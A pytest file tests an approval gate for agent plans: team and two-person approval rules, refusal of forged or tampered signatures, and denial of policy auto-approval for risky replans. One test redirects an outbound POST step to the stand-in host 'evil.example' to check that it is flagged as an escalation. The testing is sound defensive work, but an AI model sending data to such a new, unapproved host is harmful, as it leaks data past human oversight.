"""The one gate judges the approval rules (SPEC section 10): a version clears only when
the approvals it carries satisfy every rule its compiled impact matches; each extra
approval is verified on its own; a replan matching a rule with a team or more than one
approval never passes on the policy's approval; a step is judged by its own rules."""

from __future__ import annotations

from dataclasses import replace

import pytest

from forge.rules import Approver, read_rules
from forge.runtime.gate import ApprovalGate, GateRefused, escalations, replan_needs_person
from forge.tools import DEFAULT_POLICY

from .conftest import SIGNER, compile_graph, plan

RULES = read_rules(
    """
schema: forge.rules/v1
rules:
  - id: outbound
    description: Data leaves the company
    when: {side_effect: [external]}
    require: {team: finance}
  - id: two-people
    when: {tool: ["file_*"]}
    require: {approvals: 2}
"""
)
GATE = ApprovalGate(SIGNER, RULES)
POST = {
    "id": "post",
    "tool": "http_request",
    "rollback_hint": "ask the partner to delete it",
    "args": {"method": "POST", "url": "https://partner.example/reports", "body": "x"},
}
GATHER = {"id": "gather", "tool": "echo", "args": {"facts": [1]}}
READ_ONLY = replace(DEFAULT_POLICY, auto_approve_replans="read_only")


def _approval(graph, approver, teams=(), author="alice", gate=GATE):
    return gate.approve(
        plan_id="p", version=1, content_hash=graph.content_hash, author=author,
        approver=approver, teams=teams,
    )  # fmt: skip


def test_a_plain_approval_does_not_clear_a_version_that_needs_finance():
    graph = compile_graph(plan(POST))

    with pytest.raises(GateRefused) as refused:
        GATE.clear(graph, _approval(graph, "bob"), plan_id="p", version=1)

    assert refused.value.code == "rules_unsatisfied"
    assert refused.value.message == (
        "version 1 is not approved under the approval rules: rule outbound needs 1 of finance"
    )


def test_a_finance_members_approval_with_the_plain_one_clears_it():
    graph = compile_graph(plan(POST))
    plain = _approval(graph, "bob")
    finance = _approval(graph, "carol", ("finance",))

    cleared = GATE.clear(graph, finance.with_others([plain]), plan_id="p", version=1)

    assert [a.label() for a in cleared.approvers()] == ["carol@finance", "bob"]


def test_teams_are_signed_so_an_approval_cannot_claim_a_team_afterwards():
    graph = compile_graph(plan(POST))
    plain = _approval(graph, "bob")
    claimed = type(plain).from_data({**plain.to_data(), "teams": ["finance"]})

    with pytest.raises(GateRefused) as refused:
        GATE.clear(graph, claimed, plan_id="p", version=1)

    assert refused.value.code == "approval_invalid"


def test_an_extra_approval_of_other_content_or_unsigned_is_refused():
    graph = compile_graph(plan(POST))
    other_graph = compile_graph(plan(GATHER))
    finance = _approval(graph, "carol", ("finance",))
    forged = type(finance).from_data({**_approval(graph, "dan").to_data(), "signature": "0" * 64})

    for bad in (_approval(other_graph, "dan"), forged):
        with pytest.raises(GateRefused) as refused:
            GATE.clear(graph, finance.with_others([bad]), plan_id="p", version=1)
        assert refused.value.code == "approval_invalid"


def test_a_two_person_rule_needs_two_distinct_people():
    graph = compile_graph(plan({"id": "read", "tool": "file_read", "args": {"path": "x"}}))
    bob = _approval(graph, "bob")

    with pytest.raises(GateRefused) as once:
        GATE.clear(graph, bob.with_others([_approval(graph, " BOB")]), plan_id="p", version=1)
    cleared = GATE.clear(graph, bob.with_others([_approval(graph, "dan")]), plan_id="p", version=1)

    assert once.value.message.endswith("rule two-people needs 1 more person")
    assert cleared.approver == "bob"


def test_a_version_approved_under_older_rules_is_judged_again_under_the_current_ones():
    graph = compile_graph(plan(POST))
    old_gate = ApprovalGate(SIGNER)  # four eyes only
    approval = _approval(graph, "bob", gate=old_gate)

    assert old_gate.clear(graph, approval, plan_id="p", version=1) == approval
    with pytest.raises(GateRefused) as refused:
        GATE.clear(graph, approval, plan_id="p", version=1)
    assert refused.value.code == "rules_unsatisfied"


def test_a_replan_matching_a_team_rule_never_passes_on_the_policys_approval():
    parent = compile_graph(plan(GATHER, {**POST, "depends_on": ["gather"]}), READ_ONLY)
    child = compile_graph(
        plan({**GATHER, "args": {"facts": [2]}}, {**POST, "depends_on": ["gather"]}), READ_ONLY
    )

    reasons = replan_needs_person(READ_ONLY, parent, child, RULES)

    assert "it matches approval rule 'outbound', which needs 1 of finance" in reasons
    with pytest.raises(GateRefused) as refused:
        GATE.approve_by_policy(READ_ONLY, parent, child, plan_id="p", version=2, author="alice")
    assert refused.value.code == "needs_person"


def test_a_policy_approval_given_before_a_team_rule_existed_is_refused_at_the_gate():
    parent = compile_graph(plan(GATHER), READ_ONLY)
    child = compile_graph(plan({**GATHER, "args": {"facts": [2]}}), READ_ONLY)
    by_policy = ApprovalGate(SIGNER).approve_by_policy(
        READ_ONLY, parent, child, plan_id="p", version=2, author="alice"
    )
    everything = read_rules("schema: forge.rules/v1\ndefault: {approvals: 2}\n")

    with pytest.raises(GateRefused) as refused:
        ApprovalGate(SIGNER, everything).clear(child, by_policy, plan_id="p", version=2)

    assert refused.value.code == "needs_person"


def test_a_replan_calling_a_new_host_is_an_escalation():
    parent = compile_graph(plan(GATHER, {**POST, "depends_on": ["gather"]}))
    elsewhere = {**POST, "args": {**POST["args"], "url": "https://evil.example/x"}}
    child = compile_graph(plan(GATHER, {**elsewhere, "depends_on": ["gather"]}))

    assert escalations(parent, child) == (
        "it changes step 'post' calling host 'evil.example', new to the plan",
    )


def test_a_step_is_judged_by_the_rules_that_match_that_step():
    graph = compile_graph(plan(GATHER, {**POST, "depends_on": ["gather"]}))

    post = GATE.step_judgement(graph.nodes["post"], author="alice", approvals=[Approver("bob")])
    gather = GATE.step_judgement(graph.nodes["gather"], author="alice", approvals=[Approver("bob")])

    assert [(r.id, r.satisfied) for r in post.rules] == [("outbound", False)]
    assert [(r.id, r.satisfied) for r in gather.rules] == [("default", True)]
